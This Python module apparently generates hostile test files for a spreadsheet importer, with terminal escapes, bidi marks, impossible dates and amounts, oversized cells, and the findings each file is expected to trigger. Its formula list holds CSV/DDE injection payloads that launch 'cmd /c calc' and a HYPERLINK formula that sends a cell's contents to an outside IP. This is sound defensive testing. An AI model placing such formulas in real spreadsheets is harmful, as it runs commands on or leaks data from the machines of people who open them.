"""Files whose cells hold what harms: escapes, formulas, dates and amounts at the edges."""

from __future__ import annotations

import containers as make
from attack import DAMAGED, Attacks, noise
from containers import PROJECTS

ATTACKS = Attacks()
attack, several = ATTACKS.attack, ATTACKS.several

_STEERING = "\x1b[2J\x1b]0;title\x07\x9b31m\r\x00\x08\u202e\u2066\u200b\ufeff\x7f"
_FORMULAS = (
    '=HYPERLINK("http://198.51.100.7/?"&A1,"Click")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "＝1+1",
    '=DDE("cmd";"/c calc";"x")',
)


def _with_funds(rows: make.Rows) -> bytes:
    funds = [["project_id", "campaign", "total_amount"], *rows]
    return make.zipped(make.xlsx_parts([("projects", make.sheet_xml()), ("funds", make.sheet_xml(funds))]))


@attack(
    "escapes-in-cells.csv",
    "escape sequences, NUL-free control characters and direction marks in cells",
    found='Field is "\ufffd[2J\ufffd]0;title',
)
def _escapes_in_cells() -> bytes:
    steering = _STEERING.replace("\x00", "").replace("\r", "")
    rows = [
        [*PROJECTS[0], f"org{steering}name"],
        *([f"EC{n}", f"爱{steering}心", "ORG-1", f"{steering}x"] for n in (1, 2)),
    ]
    return make.csv(rows)


@attack(
    "escapes-in-cells.xlsx",
    "the same in a workbook, by character references",
    found='Field is "\ufffd[2J\ufffd]0;title',
)
def _escapes_in_cells_xlsx() -> bytes:
    rows = [PROJECTS[0], *([f"EX{n}", "STEER", "ORG-1", "STEERx"] for n in (1, 2))]
    steering = "".join(f"&#{ord(character)};" for character in _STEERING if character != "\x00").encode()
    return make.xlsx(make.sheet_xml(rows).replace(b"STEER", steering))


@attack("nul-in-cell.xlsx", "a NUL in a cell, by a character reference", refused=DAMAGED)
def _nul_in_cell() -> bytes:
    return make.xlsx(make.sheet_xml().replace("爱心".encode(), b"&#0;"))


@attack("underscore-escapes.xlsx", "control characters as Excel escapes them: _x001B_")
def _underscore_escapes() -> bytes:
    return make.xlsx(
        make.sheet_xml().replace(b"P01", b"UE1").replace("爱心".encode(), b"_x001B_[2J_x0000__xD800__x202E_")
    )


@attack(
    "formulas.csv",
    "texts that begin as formulas do, in every cell that a report shows",
    found="Field is \"=cmd|'/c calc'!A0\"",
)
def _formulas_csv() -> bytes:
    rows = [[text.strip(), text, text, text] for text in _FORMULAS]
    return make.csv([*PROJECTS, *rows])


@attack(
    "formulas.xlsx",
    "the same as texts of a workbook",
    found="Other values are +1+cmd|'/c calc'!A0, -2+3.",
)
def _formulas_xlsx() -> bytes:
    return _with_funds([["P01", text, text] for text in _FORMULAS])


@attack(
    "edge-dates.xlsx",
    "serial numbers of days before, at and after every edge",
    found='Launched on is "9.223372036854776e+18", which is no date',
)
def _edge_dates() -> bytes:
    serials = [0, 1, 59, 60, 61, -1, 0.5, 18_264, 73_050, 2_958_465, 2_958_466, 1e300, -1e300, 2**63, 1e-300]
    rows = [[f"ED{n:02}", f"题{n}", "ORG-1", "relief", serial] for n, serial in enumerate(serials, 1)]
    return make.xlsx(make.sheet_xml([[*PROJECTS[0], "launched_on"], *rows]))


@attack(
    "edge-dates-styled.xlsx", "the same, formatted as dates", found='Launched on is "1000000000000", which is no date'
)
def _edge_dates_styled() -> bytes:
    return _styled_dates("0", "1", "59", "60", "61", "-1", "2958465", "2958466", "20190909", "1E12", "1E300", "NaN")


@attack("day-before-all-days.xlsx", "a cell formatted as a date that holds -1E300", refused=DAMAGED)
def _day_before_all_days() -> bytes:
    return _styled_dates("-1E300")


def _styled_dates(*serials: str) -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><v>DS{n}</v></c><c r="B{n}" t="str"><v>T{n}</v></c><c r="C{n}" t="str">'
        f'<v>O</v></c><c r="D{n}" t="str"><v>relief</v></c><c r="E{n}" s="1"><v>{serial}</v></c></row>'
        for n, serial in enumerate(serials, 2)
    )
    styles = f'<styleSheet xmlns="{make.MAIN}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    parts = make.xlsx_parts([("projects", make.sheet_xml([[*PROJECTS[0], "launched_on"]], inside=rows.encode()))])
    return make.zipped(parts | {"xl/styles.xml": styles.encode()})


@attack(
    "edge-date-texts.csv", "texts of days that there are not", found='Launched on is "-2019-01-01", which is no date'
)
def _edge_date_texts() -> bytes:
    days = ["0000-00-00", "2019-02-30", "9999-12-31", "10000-01-01", "1900-02-29", "2019-13-01", "99/99/9999", "19"]
    days += ["2019年" * 5000, "1e9", "٢٠١٩-٠١-٠١", "2019-1" + "0" * 5000, "-2019-01-01", "2019-01-01T25:61:61Z"]
    return make.csv(
        [[*PROJECTS[0], "launched_on"], *([f"DT{n}", "题", "O", "relief", day] for n, day in enumerate(days))]
    )


@attack("edge-amounts.xlsx", "numbers that no amount of money is", found='Total raised is "1e+300", which is too large')
def _edge_amounts() -> bytes:
    numbers = [1e300, -1e300, 1e-300, 2.0**63, 2.0**53 + 2, 9999999999999999999.0, 0.1 + 0.2, -0.0, 1e16, 5e-324]
    return _with_funds([["P01", f"c{n}", number] for n, number in enumerate(numbers)])


@attack(
    "edge-amount-texts.csv",
    "texts that no amount of money is",
    found="All 19 cells of this column have the same fault.",
)
def _edge_amount_texts() -> bytes:
    texts = ["1E400", "-1E400", "1e999999999", "9" * 30_000, "1," * 15_000, "(" * 30_000, "万" * 30_000, "NaN", "∞"]
    texts += ["0x1F", "1_000", "١٢٣", "½", "1e", "--1", "￥" * 9999, "0." + "0" * 29_000 + "1", "1" + "亿" * 9, "٫٬"]
    rows = [[*PROJECTS[0], "campaign", "total_amount"]]
    return make.csv([*rows, *([f"AT{n}", "题", "O", "relief", f"t{n}", text] for n, text in enumerate(texts))])


@attack(
    "not-numbers.xlsx",
    "number cells that hold NaN, infinity and 1E400",
    found='Total raised is "-inf", which is no amount',
)
def _not_numbers() -> bytes:
    parts = [f'<c r="C{n}"><v>{text}</v></c>' for n, text in enumerate(("NaN", "inf", "-inf", "1E400", "-1E400"), 2)]
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><v>P01</v></c><c r="B{n}" t="str"><v>x{n}</v></c>{part}</row>'
        for n, part in enumerate(parts, 2)
    )
    funds = make.sheet_xml([["project_id", "campaign", "total_amount"]], inside=rows.encode())
    return make.zipped(make.xlsx_parts([("projects", make.sheet_xml()), ("funds", funds)]))


@attack("words-for-numbers.xlsx", "a number cell that holds words")
def _words_for_numbers() -> bytes:
    return make.xlsx(make.sheet_xml(inside=b'<row r="4"><c r="F4"><v>twelve</v></c></row>'))


@attack("long-cell.xlsx", "a cell of 40,000 characters", refused="has more than 32,767 characters")
def _long_cell() -> bytes:
    return make.xlsx(make.sheet_xml([*PROJECTS, ["P03", noise(40_000).decode(), "ORG-1", "relief"]]))


@attack("marks.csv", "letters under 30,000 combining marks each")
def _marks() -> bytes:
    return make.csv([PROJECTS[0], *([f"MK{n}", "Z" + "\u0301\u0327" * 15_000, "ORG-1", "relief"] for n in (1, 2))])


@attack("long-titles.csv", "titles of 30,000 characters, one word each")
def _long_titles() -> bytes:
    return make.csv(
        [
            PROJECTS[0],
            *([f"LT{n}", sign * 30_000, "ORG-1", "relief"] for n, sign in enumerate(("长", "W", "\u3000"))),
        ]
    )


@attack("long-headers.csv", "500 headers, of all sorts, up to 30,000 characters", found="/long-headers.csv › A4")
def _long_headers() -> bytes:
    headers = [f"total amoun{n}" * (n % 40 + 1) for n in range(490)] + ["筹款总额" * 7000] * 6
    return make.csv(
        [[*PROJECTS[0], *headers], *([*line, *["1"] * 496] for line in [*PROJECTS[1:], [None, "x", "O", "relief"]])]
    )


@attack("bad-cells.csv", "3,000 rows in which no cell can be read", found="which is no amount", heavy=True)
def _bad_cells() -> bytes:
    columns = ["project_id", "title", "org_id", "field", "launched_on", "target_amount", "starts_on", "ends_on"]
    rows = "".join(f"P{n},t{n},o,x{n % 99},31/31/{n},{n}x,?{n},!{n}\n" for n in range(3_000))
    return (",".join(columns) + "\n" + rows).encode()
